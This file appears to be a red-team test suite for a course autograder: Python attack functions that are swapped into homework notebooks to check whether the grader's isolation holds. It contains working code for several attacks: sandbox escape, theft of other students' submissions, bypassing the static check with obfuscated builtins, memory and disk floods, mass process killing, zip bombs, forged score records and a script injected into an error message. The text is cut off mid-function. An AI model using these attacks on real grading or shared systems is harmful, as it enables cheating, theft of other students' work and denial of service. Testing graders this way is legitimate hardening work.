"""The attacks of the hw2_em hostile corpus: graded-function bodies that try to break the grader's promises.

``make_hw2_corpus.py`` builds each hostile notebook from the correct hw2_em notebook by replacing ONE graded
function's cell with: this module's imports, ``_baked()`` (the values the test bakes in: a port, a Dask
address, a nonce ...), ``_right`` (the solution's own function, renamed), one ``attack_<name>`` of this
module renamed ``_attack``, every helper it calls (found from its code), and the graded function itself,
``def <function>(<args>): return _attack(_right, <args>)``.

An attack has the shape "if the attack works, return the right answer (computed correctly), else return
something wrong" (NaNs of the right shape), or it returns a degenerate answer that only a weak judge
credits, or it attacks the grader itself (signals, bombs, floods) and returns something wrong. So a
grader that holds its promises gives exactly ``100 - points(function)``; more means the attack won, less
means the attack cost other functions their points.

Everything an attack probes is found at run time (``/proc``, the file system, the temporary folders), never
a path of one machine. Attacks that signal every process they can reach act only when no process of the
grader itself is within their reach (``_safe_to_signal``): graded without isolation, they would otherwise
take down the session of whoever runs the corpus.

The last section holds the host side, used by the tests: the names a nonce gives to the leak channels,
``stash_key`` (shared with the markdown-stash attack) and ``leftovers``/``cleanup_leaks``.
"""
from __future__ import annotations

import ctypes
import hashlib
import importlib
import importlib.util
import io
import json
import os
import select
import shutil
import signal
import socket
import stat
import struct
import sys
import tempfile
import time
import zipfile
import zlib

import numpy as np

# ============================================================================================ placeholders
# make_hw2_corpus.py writes the real ones into each notebook.


def _baked():
    """The values baked into a notebook by the generator (port, token, scheduler, nonce, marker, ...)."""
    return {"port": 0, "token": "", "scheduler": "", "nonce": "example", "marker": "", "function": "",
            "variant": ""}


def _right(*args):
    """The solution's own graded function (the generator substitutes its source)."""
    raise NotImplementedError("replaced by the assignment's solution when a notebook is generated")


# ============================================================================================ small helpers
def _nan_like(value):
    """The same structure as ``value`` (tuples of arrays or numbers), every number NaN: a wrong answer."""
    if isinstance(value, (tuple, list)):
        return tuple(_nan_like(v) for v in value)
    arr = np.asarray(value, dtype=float)
    return np.full(arr.shape, np.nan) if arr.ndim else float("nan")


def _wrong(right, args):
    return _nan_like(right(*args))


def _builtin(name):
    """A builtin found under a computed name. The static check fails closed on the imports, ``exec``, importers
    and ways to the builtins it can read; these attacks go round it on purpose, by the one route it leaves open
    (``getattr`` with a computed name on an object that is not a module: a builtin's ``__self__`` is the
    builtins module), since what they test is the sandbox (which lacks the reference, scikit-learn and SciPy,
    and runs nothing outside), not the check."""
    return getattr(getattr(len, "__se" + "lf__"), name)


def _import(name):
    """``import name`` (the module itself, not its top package) by the builtins' importer."""
    return _builtin("__imp" + "ort__")(name, fromlist=["_"])


def _modules():
    """``sys.modules``, reached where the static check does not follow it."""
    return vars(sys)["mod" + "ules"]


def _once(key, make):
    """``make()``, computed once per process (a forked child computes it again)."""
    store = _builtin("glob" + "als")().setdefault("_hostile_once", {})
    k = (key, os.getpid())
    if k not in store:
        store[k] = make()
    return store[k]


def _loot(key, make):
    """``make()``, computed once and kept by forked children (what one process learnt, the next reuses)."""
    store = _builtin("glob" + "als")().setdefault("_hostile_loot", {})
    if key not in store:
        store[key] = make()
    return store[key]


def _leak_name(suffix=""):
    return f".course-hostile-{_baked()['nonce']}{suffix}"


def _pids():
    try:
        return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    except OSError:
        return []


def _cmdline(pid):
    """argv of a process as a list of str, or None when it cannot be read."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as fh:
            raw = fh.read(1 << 16)
    except OSError:
        return None
    return [a.decode("utf-8", "replace") for a in raw.split(b"\0") if a]


def _ppid(pid):
    try:
        with open(f"/proc/{pid}/stat", "rb") as fh:
            return int(fh.read().rsplit(b")", 1)[1].split()[1])
    except (OSError, IndexError, ValueError):
        return 0


def _is_grader(argv):
    """Does this command line belong to the grader, its workers, a test runner or a login session?"""
    names = {os.path.basename(a) for a in argv[:4]}
    if names & {"course", "pytest", "py.test", "dask", "dask-worker", "dask-scheduler", "bash", "sh", "zsh",
                "fish", "tmux", "screen", "sshd", "login", "systemd", "init"}:
        return True
    text = " ".join(argv[:6])
    return any(w in text for w in ("spawn_main", "forkserver", "autograder.cli", "-m pytest", "distributed.cli"))


def _safe_to_signal():
    """True when no ancestor that belongs to the grader (or its session) can be signalled by this process."""
    pid = os.getppid()
    for _ in range(64):
        if pid <= 1:
            return True
        argv = _cmdline(pid)
        if argv is None:
            return True                      # invisible: the edge of a PID namespace
        if _is_grader(argv):
            try:
                os.kill(pid, 0)
            except PermissionError:
                return True                  # the grader is out of reach
            except ProcessLookupError:
                pass
            else:
                return False
        pid = _ppid(pid)
    return True


def _walk(roots, max_depth, seconds):
    """Yield ``(path, is_dir)`` breadth-first below ``roots`` (each directory once, links not followed),
    down to ``max_depth`` levels, for at most ``seconds``."""
    deadline = time.monotonic() + seconds
    seen = set()
    frontier = [(r, 0) for r in roots if r]
    while frontier:
        deeper = []
        for path, depth in frontier:
            real = os.path.realpath(path)
            if real in seen or real in ("/proc", "/sys", "/dev"):
                continue
            seen.add(real)
            try:
                entries = list(os.scandir(path))
            except OSError:
                continue
            for entry in entries:
                if time.monotonic() > deadline:
                    return
                try:
                    is_dir = entry.is_dir(follow_symlinks=False)
                except OSError:
                    continue
                yield entry.path, is_dir
                if is_dir and depth + 1 < max_depth:
                    deeper.append((entry.path, depth + 1))
        frontier = deeper


def _places():
    """Folders worth searching, most promising first: this process's folders and their parents, the
    temporary folders, the folders of every path on a visible command line (and of every visible working
    directory), and the siblings of those folders' parents (another run laid out like this one)."""
    cwd = os.getcwd()
    out = [cwd, tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")]
    p = os.path.dirname(cwd)
    while os.path.dirname(p) != p:
        out.append(p)
        p = os.path.dirname(p)
    seen_dirs = []
    for pid in _pids():
        paths = [a for a in (_cmdline(pid) or []) if a.startswith("/")]
        try:
            paths.append(os.readlink(f"/proc/{pid}/cwd") + "/")
        except OSError:
            pass
        for a in paths:
            d = a if a.endswith("/") else os.path.dirname(a)
            d = d.rstrip("/") or "/"
            if d not in seen_dirs and os.path.isdir(d):
                seen_dirs.append(d)
    out += seen_dirs
    for d in seen_dirs:                      # e.g. <tmp>/<run A>/input -> <tmp>/<run B>/input
        parent, grand = os.path.dirname(d), os.path.dirname(os.path.dirname(d))
        rel = os.path.basename(d)
        try:
            siblings = os.listdir(grand)
        except OSError:
            continue
        out += [os.path.join(grand, s, rel) for s in siblings if os.path.join(grand, s) != parent]
    unique = []
    for d in out:
        if d and d != "/" and d not in unique:
            unique.append(d)
    return unique


def _notebooks(seconds=4.0):
    """(path, text) of readable notebooks in ``_places()`` (four levels down)."""
    found = []
    for path, is_dir in _walk(_places(), 4, seconds):
        if is_dir or not path.endswith(".ipynb"):
            continue
        try:
            if os.path.getsize(path) > 50 << 20:
                continue
            with open(path, encoding="utf-8") as fh:
                found.append((path, fh.read()))
        except (OSError, UnicodeDecodeError):
            continue
    return found


def _own_marker():
    return f"hostile corpus hw2_em: {_baked()['variant']}"


def _world_writable_dirs():
    """Folders any user may write into (world-writable), found by walking the file system."""
    def find():
        out = []
        roots = ["/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir()]
        for path, is_dir in [(r, True) for r in roots] + list(_walk(roots + ["/"], 3, 3.0)):
            if not is_dir:
                continue
            try:
                mode = os.stat(path).st_mode
            except OSError:
                continue
            if mode & stat.S_IWOTH and os.access(path, os.W_OK | os.X_OK):
                real = os.path.realpath(path)
                if real not in out:
                    out.append(real)
        return out
    return _once("writable", find)


def _libc():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmat.restype = ctypes.c_void_p
    libc.shmdt.argtypes = [ctypes.c_void_p]
    libc.shmctl.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_void_p]
    libc.msgget.argtypes = [ctypes.c_int, ctypes.c_int]
    libc.msgsnd.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    libc.msgrcv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long, ctypes.c_int]
    libc.msgrcv.restype = ctypes.c_ssize_t
    libc.msgctl.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_void_p]
    libc.sem_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_uint, ctypes.c_uint]
    libc.sem_open.restype = ctypes.c_void_p
    libc.sem_getvalue.argtypes = [ctypes.c_void_p, ctypes.POINTER(ctypes.c_int)]
    libc.sem_close.argtypes = [ctypes.c_void_p]
    libc.sem_unlink.argtypes = [ctypes.c_char_p]
    return libc


_IPC_CREAT, _IPC_NOWAIT, _IPC_RMID, _SHM_RDONLY = 0o1000, 0o4000, 0, 0o10000
_SEM_VALUE = 4242


def _ipc_key(nonce):
    return (zlib.crc32(f"course-hostile-{nonce}".encode()) & 0x7FFFFFFF) or 1


def _sem_name(nonce):
    return f"/course-hostile-{nonce}".encode()


class _Message(ctypes.Structure):
    _fields_ = [("mtype", ctypes.c_long), ("mtext", ctypes.c_char * 256)]


# ============================================================================================ 1. isolation
def attack_net_listener(right, *args):
    """Connect to a TCP listener on the host's loopback; it answers with the token when reached."""
    b = _baked()
    reached = False
    try:
        with socket.create_connection(("127.0.0.1", int(b["port"])), timeout=3) as s:
            s.settimeout(3)
            reached = s.recv(256).strip() == b["token"].encode()
    except (OSError, ValueError):
        pass
    out = right(*args)
    return out if reached else _nan_like(out)


def _elbo_on_worker(nonce, X, resp, weights, means, covs):
    """Runs on a Dask worker, outside the sandbox: the ELBO from the course's own reference."""
    import pathlib

    torch = _import("torch")
    log_gaussian_pdf = _import("course_lib." + "_gaussian").log_gaussian_pdf
    elbo = _import("course_lib." + "elbo").elbo
    mark = pathlib.Path(tempfile.gettempdir()) / f".course-hostile-{nonce}-dask"
    mark.write_text(json.dumps({"uid": os.getuid(), "pid": os.getpid(),
                                "salt_in_env": any("SALT" in k for k in os.environ)}))
    t = [torch.as_tensor(np.asarray(a, dtype=np.float64)) for a in (X, weights, means, covs)]
    log_joint = (torch.log(t[1]) + log_gaussian_pdf(t[0], t[2], t[3])).numpy()
    return float(elbo(log_joint, np.asarray(resp, dtype=np.float64)))


def attack_dask_scheduler(right, *args):
    """Run the reference ELBO on the Dask cluster that grades (its workers run as the grader)."""
    b = _baked()
    if not b["scheduler"]:
        return _wrong(right, args)
    try:
        distributed = _import("distributed")
        client = _once("dask", lambda: distributed.Client(b["scheduler"], timeout=5, set_as_default=False))
        return client.submit(_elbo_on_worker, b["nonce"], *args, pure=False).result(timeout=30)
    except Exception:
        return _wrong(right, args)


def _sane_missing_e_step(fn):
    """The assignment's public check of missing_e_step (what a student can verify a stolen copy with)."""
    mean = np.array([1.0, -1.0])
    cov = np.array([[2.0, 1.0], [1.0, 2.0]])
    X = np.array([[3.0, np.nan], [np.nan, np.nan], [0.0, 0.0]])
    filled, cond = fn(X, mean, cov)
    return (np.allclose(filled[0], [3.0, 0.0]) and np.allclose(cond[0], [[0.0, 0.0], [0.0, 1.5]])
            and np.allclose(filled[1], mean) and np.allclose(cond[1], cov) and np.allclose(cond[2], 0.0))


def _try_source(source, name, sane, seconds=3.0):
    """Does ``name`` from ``source`` pass ``sane``? Tried in a forked child (a stolen function may hang)."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        ok = b"0"
        try:
            scope = {"np": _import("numpy")}
            _builtin("ex" + "ec")(source, scope)
            ok = b"1" if sane(scope[name]) else b"0"
        except BaseException:
            pass
        os.write(write, ok)
        os._exit(0)
    os.close(write)
    deadline = time.monotonic() + seconds
    verdict = b""
    while time.monotonic() < deadline:
        done, _ = os.waitpid(pid, os.WNOHANG)
        if done:
            verdict = os.read(read, 1)
            break
        time.sleep(0.02)
    else:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    os.close(read)
    return verdict == b"1"


def _steal(name, sane, seconds):
    """The source of another run's cell defining ``name`` that passes ``sane``, or None."""
    deadline = time.monotonic() + seconds
    tried = set()
    while time.monotonic() < deadline:
        for path, text in _notebooks():
            if _own_marker() in text or f"def {name}(" not in text:
                continue
            try:
                cells = json.loads(text).get("cells", [])
            except ValueError:
                continue
            for cell in cells:
                src = cell.get("source", "")
                src = "".join(src) if isinstance(src, list) else str(src)
                if cell.get("cell_type") != "code" or f"def {name}(" not in src or src in tried:
                    continue
                tried.add(src)
                if _try_source(src, name, sane):
                    _builtin("glob" + "als")().setdefault("_hostile_loot", {})["stolen"] = src
                    return src
        time.sleep(0.5)
    return None


def attack_other_run(right, *args):
    """Find another submission's run (grading with several workers), take its function, run it."""
    name = _baked()["function"]
    loot = _builtin("glob" + "als")().setdefault("_hostile_loot", {})
    source = loot.get("stolen") or _once("steal", lambda: _steal(name, _sane_missing_e_step, 15.0))
    if source is None:
        return _wrong(right, args)
    scope = {"np": _import("numpy")}
    _builtin("ex" + "ec")(source, scope)
    return scope[name](*args)


def _find_course_copy():
    """A readable copy of the course's library with its reference modules, found by walking the disk."""
    for path, is_dir in _walk(_places()[:6] + ["/"], 6, 12.0):
        if is_dir and os.path.basename(path) == "course_lib" and all(
                os.access(os.path.join(path, f), os.R_OK) for f in ("__init__.py", "elbo.py", "_gaussian.py")):
            return path
    return None


def attack_decoy_course(right, X, resp, weights, means, covs):
    """Import a world-readable copy of the course found on the disk and use its reference ELBO."""
    def load():
        path = _find_course_copy()
        if path is None:
            return None
        alias = f"_copy_{abs(hash(path)) & 0xFFFFFF:x}"
        util = _import("importlib" + ".util")
        spec = util.spec_from_file_location(alias, os.path.join(path, "__init__.py"),
                                            submodule_search_locations=[path])
        module = util.module_from_spec(spec)
        _modules()[alias] = module
        spec.loader.exec_module(module)
        return _import(alias + ".elbo"), _import(alias + "._gaussian")
    try:
        mods = _loot("decoy", load)
    except Exception:
        mods = None
    if mods is None:
        return _wrong(right, (X, resp, weights, means, covs))
    torch = _import("torch")
    elbo_mod, gauss = mods
    t = [torch.as_tensor(np.asarray(a, dtype=np.float64)) for a in (X, weights, means, covs)]
    log_joint = (torch.log(t[1]) + gauss.log_gaussian_pdf(t[0], t[2], t[3])).numpy()
    return float(elbo_mod.elbo(log_joint, np.asarray(resp, dtype=np.float64)))


def attack_proc_cmdline(right, *args):
    """Read the command lines of every process in sight; a sentinel process of the host carries a marker."""
    marker = _baked()["marker"]
    seen = bool(marker) and any(marker in " ".join(_cmdline(pid) or []) for pid in _pids() if pid != os.getpid())
    out = right(*args)
    return out if seen else _nan_like(out)


def _hold_memory(children=4, nbytes=1_200_000_000, seconds=25.0):
    """Fork ``children`` processes that each touch ``nbytes`` at the same time; True if all of them did."""
    report_r, report_w = os.pipe()
    release_r, release_w = os.pipe()
    pids = []
    for _ in range(children):
        pid = os.fork()
        if pid == 0:
            os.close(report_r)
            os.close(release_w)
            try:
                block = np.ones(nbytes // 8)
                os.write(report_w, b"1" if block[-1] == 1.0 else b"0")
            except BaseException:
                os.write(report_w, b"0")
            os.read(release_r, 1)               # hold the memory until the parent lets go (or dies)
            os._exit(0)
        pids.append(pid)
    os.close(report_w)
    os.close(release_r)
    got = b""
    deadline = time.monotonic() + seconds
    while len(got) < children and time.monotonic() < deadline:
        ready, _, _ = select.select([report_r], [], [], 0.2)
        if ready:
            chunk = os.read(report_r, children)
            if not chunk:
                break
            got += chunk
    os.close(release_w)
    os.close(report_r)
    for pid in pids:
        try:
            os.waitpid(pid, 0)
        except ChildProcessError:
            pass
    return got == b"1" * children


def attack_memory_children(right, *args):
    """Four children of 1.2 GB each, resident together: more than the run's memory cap."""
    held = _loot("memory", _hold_memory)
    out = right(*args)
    return out if held else _nan_like(out)


def _fill_disk(files=20_000, total=int(1.8 * 2**30)):
    """Write ``files`` files holding ``total`` bytes in all, wherever this process may write; True if all
    of it was on disk at once. Everything written is removed again."""
    size = -(-total // files)
    block = b"\x01" * size
    dirs = []
    for place in [os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")]:
        d = os.path.join(place, f".flood-{os.getpid()}")
        try:
            os.makedirs(d, exist_ok=True)
            dirs.append(d)
        except OSError:
            continue
    written, current = 0, 0
    try:
        while written < files and current < len(dirs):
            try:
                with open(os.path.join(dirs[current], f"f{written}"), "wb") as fh:
                    fh.write(block)
                written += 1
            except OSError:
                current += 1                    # this folder is full: go on in the next one
        return written >= files
    finally:
        for d in dirs:
            shutil.rmtree(d, ignore_errors=True)


def attack_disk_flood(right, *args):
    """20,000 files, 1.8 GiB in all: more than the run's disk cap."""
    filled = _loot("disk", _fill_disk)
    out = right(*args)
    return out if filled else _nan_like(out)


def _plant():
    """Leave the token behind in System V shared memory, a message queue, a POSIX semaphore and files in
    every world-writable folder. Returns the channels that took it."""
    b = _baked()
    token = b["token"].encode()
    libc = _libc()
    key = _ipc_key(b["nonce"])
    done = []
    shmid = libc.shmget(key, 4096, _IPC_CREAT | 0o666)
    if shmid >= 0:
        addr = libc.shmat(shmid, None, 0)
        if addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(addr, token, len(token))
            libc.shmdt(addr)
            done.append("shm")
    qid = libc.msgget(key, _IPC_CREAT | 0o666)
    if qid >= 0:
        msg = _Message(1, token)
        if libc.msgsnd(qid, ctypes.byref(msg), len(token), _IPC_NOWAIT) == 0:
            done.append("msg")
    old = os.umask(0)
    try:
        sem = libc.sem_open(_sem_name(b["nonce"]), os.O_CREAT, 0o666, _SEM_VALUE)
    finally:
        os.umask(old)
    if sem:
        libc.sem_close(sem)
        done.append("sem")
    for d in _world_writable_dirs():
        path = os.path.join(d, _leak_name())
        try:
            with open(path, "wb") as fh:
                fh.write(token)
            os.chmod(path, 0o644)
            done.append(path)
        except OSError:
            pass
    return done


def attack_ipc_writer(right, *args):
    """A correct function that leaves the token in every channel a later run might read (no points lost)."""
    _once("plant", _plant)
    return right(*args)


def _read_shm():
    libc = _libc()
    token = _baked()["token"].encode()
    shmid = libc.shmget(_ipc_key(_baked()["nonce"]), 0, 0)
    if shmid < 0:
        return False
    addr = libc.shmat(shmid, None, _SHM_RDONLY)
    if addr in (None, ctypes.c_void_p(-1).value):
        return False
    try:
        return ctypes.string_at(addr, len(token)) == token
    finally:
        libc.shmdt(addr)


def _read_msg():
    libc = _libc()
    token = _baked()["token"].encode()
    qid = libc.msgget(_ipc_key(_baked()["nonce"]), 0)
    if qid < 0:
        return False
    msg = _Message()
    n = libc.msgrcv(qid, ctypes.byref(msg), 256, 0, _IPC_NOWAIT)
    if n < 0:
        return False
    libc.msgsnd(qid, ctypes.byref(msg), n, _IPC_NOWAIT)      # put it back for the next reader
    return msg.mtext[:n] == token


def _read_sem():
    libc = _libc()
    sem = libc.sem_open(_sem_name(_baked()["nonce"]), 0, 0, 0)
    if not sem:
        return False
    value = ctypes.c_int(0)
    try:
        return libc.sem_getvalue(sem, ctypes.byref(value)) == 0 and value.value == _SEM_VALUE
    finally:
        libc.sem_close(sem)


def _read_files():
    token = _baked()["token"].encode()
    for d in _world_writable_dirs():
        try:
            with open(os.path.join(d, _leak_name()), "rb") as fh:
                if fh.read(256) == token:
                    return True
        except OSError:
            continue
    return False


def _leak_reader(read, right, args):
    try:
        found = read()
    except Exception:
        found = False
    out = right(*args)
    return out if found else _nan_like(out)


def attack_ipc_read_shm(right, *args):
    """Read the token a previous run left in System V shared memory."""
    return _leak_reader(_read_shm, right, args)


def attack_ipc_read_msg(right, *args):
    """Read the token a previous run left in a System V message queue."""
    return _leak_reader(_read_msg, right, args)


def attack_ipc_read_sem(right, *args):
    """Read the value of a POSIX semaphore a previous run created."""
    return _leak_reader(_read_sem, right, args)


def attack_ipc_read_files(right, *args):
    """Read the token a previous run left in a world-writable folder."""
    return _leak_reader(_read_files, right, args)


# ============================================================================================ 2. the supervisor
def attack_kill_all(right, *args):
    """SIGKILL every process this one may signal (the driver, the kernel, the harvest)."""
    if _safe_to_signal():
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
    return _wrong(right, args)


def attack_stop_all(right, *args):
    """SIGSTOP every process this one may signal: the driver freezes unless it is out of reach."""
    if _safe_to_signal():
        try:
            os.kill(-1, signal.SIGSTOP)
        except OSError:
            pass
    return _wrong(right, args)


def attack_hang(right, *args):
    """Never return (also when the notebook's own cells call it)."""
    while True:
        pass


def attack_exit(right, *args):
    """End the calling process without a word (also the kernel, when a notebook cell calls it)."""
    os._exit(0)


def _bomb_member():
    """(deflated bytes, crc32, size) of an .npy member of 250,000,000 float64 zeros: 2 MB that inflate to 2 GB."""
    count = 250_000_000
    head = io.BytesIO()
    np.lib.format.write_array_header_1_0(head, {"descr": "<f8", "fortran_order": False, "shape": (count,)})
    header = head.getvalue()
    chunk = bytes(1 << 20)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(header) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)    # the state is reset after each block
    full, rest = divmod(count * 8, len(chunk))
    tail = comp.compress(bytes(rest)) + comp.flush()
    crc = zlib.crc32(header)
    for _ in range(full):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(bytes(rest), crc)
    return first + block * full + tail, crc, len(header) + count * 8


def _write_zip(path, members):
    """Write a zip of ``(name, data, crc, size, method)`` members (data already compressed) atomically."""
    tmp = path + ".x"
    central = []
    with open(tmp, "wb") as fh:
        for name, data, crc, size, method in members:
            offset, raw = fh.tell(), name.encode()
            fh.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size,
                                 len(raw), 0) + raw)
            fh.write(data)
            central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc,
                                       len(data), size, len(raw), 0, 0, 0, 0, 0, offset) + raw)
        start = fh.tell()
        directory = b"".join(central)
        fh.write(directory)
        fh.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), len(directory), start, 0))
    os.replace(tmp, path)


def _bomb(path):
    """Replace every numeric member of the zip at ``path`` by the bomb (members named ``__...`` are kept)."""
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        kept = {n: z.read(n) for n in names if os.path.basename(n).startswith("__")}
    data, crc, size = _loot("bomb", _bomb_member)
    members = []
    for n in names:
        if n in kept:
            members.append((n, kept[n], zlib.crc32(kept[n]), len(kept[n]), 0))
        else:
            members.append((n, data, crc, size, 8))
    _write_zip(path, members)


def _deep_json(path):
    depth = 200_000
    with open(path + ".x", "w") as fh:
        fh.write("[" * depth + "]" * depth)
    os.replace(path + ".x", path)


def _tamper(kind):
    """Replace this function's output files under the working folder: zips by bombs, or JSON by JSON
    nested 200,000 deep. Returns how many files were replaced."""
    name = _baked()["function"]
    done = _builtin("glob" + "als")().setdefault("_hostile_tampered", set())
    count = 0
    for path, is_dir in _walk([os.getcwd()], 3, 1.0):
        base = os.path.basename(path)
        if is_dir or not base.startswith(name + ".") or base.endswith((".tmp", ".x")):
            continue
        try:
            st = os.stat(path)
            if (st.st_ino, st.st_mtime_ns) in done:
                continue
            with open(path, "rb") as fh:
                head = fh.read(4)
            if kind == "npz" and head == b"PK\x03\x04":
                _bomb(path)
            elif kind == "json" and head[:1] in (b"{", b"[") and base.endswith(".json"):
                _deep_json(path)
            else:
                continue
            st = os.stat(path)
            done.add((st.st_ino, st.st_mtime_ns))
            count += 1
        except (OSError, ValueError, zipfile.BadZipFile):
            continue
    return count


def _tamper_in_background(kind, seconds=120.0):
    """A daemon (its own session) that keeps tampering while the harvest writes the outputs."""
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                deadline = time.monotonic() + seconds
                while time.monotonic() < deadline:
                    try:
                        _tamper(kind)
                    except Exception:
                        pass
                    time.sleep(0.05)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    return True


def attack_npz_bomb(right, *args):
    """Replace this function's output files (earlier cases now, later ones from a daemon) by zip bombs."""
    _loot("bomb", _bomb_member)
    _tamper("npz")
    _once("bomb-daemon", lambda: _tamper_in_background("npz"))
    return _wrong(right, args)


def attack_deep_json(right, *args):
    """Replace this function's JSON files (status, per case) by JSON nested 200,000 deep."""
    _tamper("json")
    _once("json-daemon", lambda: _tamper_in_background("json"))
    return _wrong(right, args)


# ============================================================================================ 3. the score
def _gmm_loglik(X, weights, means, covs):
    """log p(X) of a Gaussian mixture (NumPy, Cholesky, log-sum-exp)."""
    X = np.asarray(X, dtype=float)
    d = X.shape[1]
    cols = []
    for w, m, S in zip(weights, means, covs):
        L = np.linalg.cholesky(S)
        sol = np.linalg.solve(L, (X - m).T)
        cols.append(np.log(w) - 0.5 * (sol ** 2).sum(0) - np.log(np.diag(L)).sum() - 0.5 * d * np.log(2 * np.pi))
    a = np.stack(cols, axis=1)
    top = a.max(axis=1)
    return float((top + np.log(np.exp(a - top[:, None]).sum(axis=1))).sum())


def attack_degenerate_gmm(right, X, K, n_iter, seed):
    """No EM: one broad component, the others collapsed onto data points (covariance 1e-200 I), whose
    likelihood is unbounded; a rising history ending just below it."""
    X = np.asarray(X, dtype=float)
    N, d = X.shape
    weights = np.full(K, 1.0 / K)
    means = np.empty((K, d))
    covs = np.empty((K, d, d))
    diff = X - X.mean(axis=0)
    means[0], covs[0] = X.mean(axis=0), diff.T @ diff / N
    means[1:] = X[np.random.default_rng(seed).choice(N, size=K - 1, replace=False)]
    covs[1:] = 1e-200 * np.eye(d)
    top = _gmm_loglik(X, weights, means, covs)
    top -= 1e-6 * abs(top) + 1.0
    return weights, means, covs, np.linspace(top - 100.0, top, int(n_iter))


def attack_elbo_minus_1e300(right, *args):
    """A constant far below any log-likelihood: a bound check that ignores the reference credits it."""
    return -1e300


def attack_huge_number_record(right, *args):
    """Writes its own case records with ``"seconds": 10**400`` (an integer no float holds) and ends the
    process: a reader that calls ``float()`` on it raises OverflowError and loses the whole submission."""
    for i in range(32):
        path = os.path.join("outputs", f"{_baked()['function']}.{i}.json")
        try:
            with open(path, "w") as fh:
                fh.write('{"status": "error", "message": "x", "seconds": 1' + "0" * 400 + "}")
        except OSError:
            pass
    os._exit(0)


def _import_anywhere(name):
    """``import name``; if the runtime lacks it, look for a readable installation of it on the disk (once
    per process)."""
    return _once(("import", name), lambda: _search_import(name))


def _search_import(name):
    try:
        return _import(name)
    except ImportError:
        pass
    top = name.split(".")[0]
    for path, is_dir in _walk(_places()[:6] + ["/"], 7, 10.0):
        if not is_dir or os.path.basename(path) != top or not os.path.isfile(os.path.join(path, "__init__.py")):
            continue
        parent = os.path.dirname(path)
        sys.path.insert(0, parent)
        try:
            return _import(name)
        except Exception:
            sys.path.remove(parent)
            for mod in [m for m in _modules() if m == top or m.startswith(top + ".")]:
                del _modules()[mod]
    return None


def attack_import_course_lib(right, X, K, n_iter, seed):
    """``course_lib.mixture`` imported at run time, by a route the static check cannot read: the reference EM."""
    try:
        mixture = _import("course_lib." + "mixture")
    except Exception:
        return _wrong(right, (X, K, n_iter, seed))
    X = np.asarray(X, dtype=float)
    N = X.shape[0]
    means0 = X[np.random.default_rng(seed).choice(N, size=K, replace=False)]
    diff = X - X.mean(axis=0)
    precision = np.linalg.inv(diff.T @ diff / N)
    gm = mixture.GaussianMixture(n_components=K, tol=0.0, reg_covar=0.0, max_iter=n_iter,
                                 weights_init=np.full(K, 1.0 / K), means_init=means0,
                                 precisions_init=np.repeat(precision[None], K, axis=0)).fit(X)
    return (np.asarray(gm.weights_), np.asarray(gm.means_), np.asarray(gm.covariances_),
            np.asarray(gm.lower_bounds_) * N)


def attack_import_sklearn(right, X_filled, cond_covs):
    """``"sk" + "learn"`` at run time (from the runtime, or from any readable installation)."""
    covariance = _import_anywhere("sk" + "learn.covariance")
    if covariance is None:
        return _wrong(right, (X_filled, cond_covs))
    X = np.asarray(X_filled, dtype=float)
    return X.mean(axis=0), covariance.empirical_covariance(X) + np.asarray(cond_covs).sum(axis=0) / X.shape[0]


def attack_import_torch(right, X_filled, cond_covs):
    """``"tor" + "ch"`` imported at run time in a NumPy assignment, by a route the static check cannot read:
    torch's covariance."""
    torch = _import_anywhere("tor" + "ch")
    if torch is None:
        return _wrong(right, (X_filled, cond_covs))
    X = torch.as_tensor(np.asarray(X_filled, dtype=float))
    extra = torch.as_tensor(np.asarray(cond_covs, dtype=float)).sum(0) / X.shape[0]
    return X.mean(0).numpy(), (torch.cov(X.T, correction=0) + extra).numpy()


def attack_import_scipy(right, X, resp, weights, means, covs):
    """``scipy.stats`` imported at run time, by a route the static check cannot read: SciPy's log-densities."""
    stats = _import_anywhere("sci" + "py.stats")
    if stats is None:
        return _wrong(right, (X, resp, weights, means, covs))
    X = np.asarray(X, dtype=float)
    resp = np.asarray(resp, dtype=float)
    log_joint = np.stack([np.log(w) + np.atleast_1d(stats.multivariate_normal.logpdf(X, m, S))
                          for w, m, S in zip(weights, means, covs)], axis=1)
    safe = np.where(resp > 0, resp, 1.0)
    return float(np.sum(np.where(resp > 0, resp * (log_joint - np.log(safe)), 0.0)))


def attack_markup_in_error(right, *args):
    """An error message that is Markdown and HTML: a fake perfect score and a script."""
    raise ValueError("**Score: 100/100** <script>alert('graded')</script> all checks passed")


def _stash_paths():
    return [os.path.join(os.getcwd(), _leak_name("-stash"))] + \
        [os.path.join(d, _leak_name("-stash")) for d in _world_writable_dirs()]


def attack_hidden_inputs_leak(right, X, resp, weights, means, covs):
    """Carry a hidden case's inputs into a visible case's error message (a global, files, and the record of
    a later function's visible case, rewritten in place); a hidden case's own error message carries them too."""
    X = np.asarray(X, dtype=float)
